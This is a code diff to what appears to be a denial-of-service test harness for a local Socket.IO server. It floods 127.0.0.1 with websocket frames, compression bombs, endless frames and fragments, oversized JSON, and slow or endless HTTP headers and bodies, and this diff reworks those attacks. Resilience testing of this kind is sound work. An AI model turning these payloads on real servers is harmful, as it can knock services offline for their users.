@@ -4,6 +4,7 @@ import itertools
 import socket
 import struct
 import time
+import zlib
 from collections.abc import Callable
 from typing import Any, TypeVar
 
@@ -46,6 +47,7 @@ def flood(
     opening: bytes,
     data: bytes = b"",
     *,
+    then: bytes = b"",
     connections: int = 1,
     read: bool = False,
     pause: float = 0.0,
@@ -53,11 +55,13 @@ def flood(
 ) -> None:
     """Send `opening` once and `data` again and again on each connection; connect again where the server closes.
 
-    until: time.monotonic(); read: whether to read what the server sends; pause: s between two bytes, 0 to send as much
-    as the server takes; hold: whether to keep a connection, instead of closing it when `opening` is sent.
+    until: time.monotonic(); then: sent once, when the server has answered the opening; read: whether to read what the
+    server sends; pause: s between two bytes, 0 to send as much as the server takes; hold: whether to keep a connection,
+    instead of closing it when `opening` is sent.
     """
     opened: dict[int, socket.socket] = {}
     rest: dict[int, bytes] = {}
+    unanswered: set[int] = set()
     while time.monotonic() < until:
         moved = 0
         for n in range(connections):
@@ -66,9 +70,15 @@ def flood(
                     opened[n] = socket.create_connection(("127.0.0.1", port), 0.2)
                     opened[n].setblocking(False)
                     rest[n], moved = opening, 1
+                    unanswered.update({n} if then else ())
                 if rest[n]:
                     sent = _unless_blocked(opened[n].send, rest[n][: 1 if pause else None]) or 0
                     rest[n], moved = rest[n][sent:], moved + sent
+                if n in unanswered:
+                    if not rest[n] and _unless_blocked(opened[n].recv, 1 << 20) is not None:
+                        unanswered.remove(n)
+                        rest[n] = then
+                    continue
                 if read or not (rest[n] or data):
                     received = _unless_blocked(opened[n].recv, 1 << 20, 0 if read else socket.MSG_PEEK)
                     if received == b"":
@@ -79,6 +89,7 @@ def flood(
                     if not hold:
                         raise ConnectionError
             except OSError:
+                unanswered.discard(n)
                 if n in opened:
                     opened.pop(n).close()
         if pause or not moved:
@@ -123,81 +134,7 @@ def bad_frames(port: int, until: float) -> None:
     for each in itertools.cycle(broken):
         if time.monotonic() > until:
             break
-        flood(port, min(until, time.monotonic() + 0.02), WEBSOCKET % b"" + each)
-
-
-def session_id(port: int) -> bytes:
-    """Return the id of a new session over HTTP polling, or b"" if the server refuses one."""
-    with socket.create_connection(("127.0.0.1", port), 2) as client:
-        client.sendall(GET % POLLING)
-        head = client.recv(65536)
-    return head.split(b'"sid":"')[1][:32] if b'"sid":"' in head else b""
-
-
-def in_sessions(data: Callable[[bytes], bytes], connections: int) -> Attack:
-    """Return the attack that opens a session over HTTP polling every second, and sends `data(session id)` in it."""
-
-    def attack(port: int, until: float) -> None:
-        while (now := time.monotonic()) < until:
-            try:
-                sid = session_id(port)
-            except OSError:
-                sid = b""
-            flood(port, min(until, now + 1), b"", data(b"&sid=" + sid), connections=connections, read=True)
-
-    return attack
-
-
-def post(path: bytes, body: bytes) -> bytes:
-    """Return a POST request."""
-    return POST % (path, b"Content-Length: %d" % len(body)) + body
-
-
-def ended_sessions(port: int, until: float) -> None:
-    """End sessions, have the server look each of them up, and send pings through the websockets that are left."""
-    pings = frame(b"", 0x89) * 1000
-    sent: dict[socket.socket, int] = {}  # bytes of pings, by websocket
-    while time.monotonic() < until:
-        try:
-            client = socket.create_connection(("127.0.0.1", port), 2)
-            client.sendall(WEBSOCKET % b"")
-            got = b""
-            while b"}" not in got:
-                if not (more := client.recv(65536)):
-                    raise ConnectionError
-                got += more
-            client.sendall(frame(b"1"))
-            client.setblocking(False)
-            sent[client] = 0
-            with socket.create_connection(("127.0.0.1", port), 2) as other:
-                other.sendall(GET % (POLLING + b"&sid=" + got.split(b'"sid":"')[1][:32]))
-                other.recv(65536)
-        except (OSError, IndexError):  # refused
-            time.sleep(0.01)
-        for each in list(sent):
-            try:
-                sent[each] += _unless_blocked(each.send, pings[sent[each] % len(frame(b"", 0x89)) :]) or 0
-                _unless_blocked(each.recv, 1 << 20)
-            except OSError:
-                del sent[each]
-
-
-def unread_polls(port: int, until: float) -> None:
-    """Have long pings answered over HTTP polling, and read none of the answers."""
-    ping, unread = b"100001:2" + b"x" * 100_000, []
-    while time.monotonic() < until:
-        try:
-            path = POLLING + b"&sid=" + session_id(port)
-            with socket.create_connection(("127.0.0.1", port), 2) as client:
-                while time.monotonic() < until:
-                    for _ in range(60):
-                        client.sendall(post(path, ping))
-                        if b" 200 " not in client.recv(65536):
-                            raise ConnectionError
-                    unread.append(socket.create_connection(("127.0.0.1", port), 2))
-                    unread[-1].sendall(GET % path)
-        except OSError:  # refused
-            time.sleep(0.01)
+        flood(port, min(until, time.monotonic() + 0.02), WEBSOCKET % b"", then=each)
 
 
 def frames(count: int = 8) -> list[bytes]:
@@ -220,27 +157,27 @@ def all_attacks() -> dict[str, Attack]:
         "connect_again": websockets(frame(b"40") * 1000),
         "namespaces": websockets(names, read=True),
         "upgrade_packets": websockets(frame(b"5") * 1000),
-        "unread_polls": unread_polls,
         "websocket_pings": websockets(frame(b"x" * 125, 0x89) * 1000),
         "websocket_pings_read": websockets(frame(b"", 0x89) * 1000, connections=8, read=True),
         # Messages that cost more than they should
         "cars": websockets(driving, connections=30, read=True),
-        "attachments": websockets(frame(b'459-["telemetry"]') + 8 * frame(b"\x04" + bytes(1 << 20), 0x82), read=True),
+        "attachments": websockets(
+            frame(b"\x04" + bytes(100_000), 0x82), then=frame(b'4599999999-["telemetry"]'), read=True
+        ),
+        "compressed": websockets(frame(zlib.compress(b"4" + bytes(1 << 26))[2:-4], 0xC1), connections=4, read=True),
+        "garbage": websockets(frame(b"42[") + frame(b"4b") + frame(b"b!") + frame(b"\0") + frame(b"7"), read=True),
         "json": websockets(frame(b'42["telemetry",' + b"[]," * 300_000 + b"0]"), connections=8, read=True),
-        "empty_fragments": flooding(WEBSOCKET % b"" + frame(b"4", 0x01), frame(b"", 0x00) * 10_000, connections=8),
-        "endless_frame": flooding(WEBSOCKET % b"" + frame(b"4", length=1 << 40), bytes(1 << 20), connections=8),
+        "empty_fragments": websockets(frame(b"", 0x00) * 10_000, then=frame(b"4", 0x01), connections=8),
+        "endless_fragments": websockets(frame(b"x" * 1000, 0x00) * 100, then=frame(b"4", 0x01)),
+        "endless_frame": websockets(bytes(1 << 20), then=frame(b"4", length=1 << 40), connections=8),
         "bad_frames": bad_frames,
         # HTTP
         "polling_sessions": flooding(b"", GET % POLLING, connections=50, read=True),
-        "unfetched_answers": in_sessions(
-            lambda sid: post(POLLING + sid, b'24:42["telemetry",{"a":"b"}]' * 16), connections=8
+        "ended_sessions": websockets(frame(b"", 0x89) * 1000, then=frame(b"1"), connections=50, read=True),
+        "half_upgrades": flooding(
+            b"", WEBSOCKET.replace(b"Connection: Upgrade\r\n", b"") % b"", connections=100, read=True
         ),
-        "ended_sessions": ended_sessions,
-        "half_upgrades": in_sessions(
-            lambda sid: (WEBSOCKET % sid).replace(b"Connection: Upgrade\r\n", b""), connections=250
-        ),
-        "upgrade_probes": in_sessions(lambda sid: WEBSOCKET % sid + frame(b"2probe"), connections=100),
-        "payload_lengths": in_sessions(lambda sid: post(POLLING + sid, b"\0" + b"\1" * 250_000), connections=8),
+        "upgrades": flooding(b"", WEBSOCKET % b"&sid=0", connections=100, read=True),
         "endless_body": flooding(POST % (b"/", b"Content-Length: 999999999999"), bytes(1 << 20), connections=20),
         "endless_chunks": flooding(
             POST % (POLLING, b"Transfer-Encoding: chunked"), b"10000\r\n" + bytes(1 << 16) + b"\r\n"
@@ -248,6 +185,10 @@ def all_attacks() -> dict[str, Attack]:
         "long_headers": flooding(
             b"", b"GET / HTTP/1.1\r\n" + b"A: %s\r\n" % (b"b" * 600) * 99, connections=100, read=True
         ),
+        "slow_bodies": flooding(
+            POST % (b"/set-speed", b"Content-Length: 100"), b"x" * 99, connections=500, pause=0.001
+        ),
+        "odd_requests": flooding(b"", b"G\r\n\r\n", connections=50, read=True, hold=False),
         "slow_headers": flooding(b"", GET % b"/" + b"A: b\r\n" * 1000, connections=500, pause=0.001),
         "odd_versions": flooding(b"", GET % b"/socket.io/?EIO=9&transport=websocket", connections=50, read=True),
         "page_requests": flooding(b"", GET % b"/", connections=100, read=True),
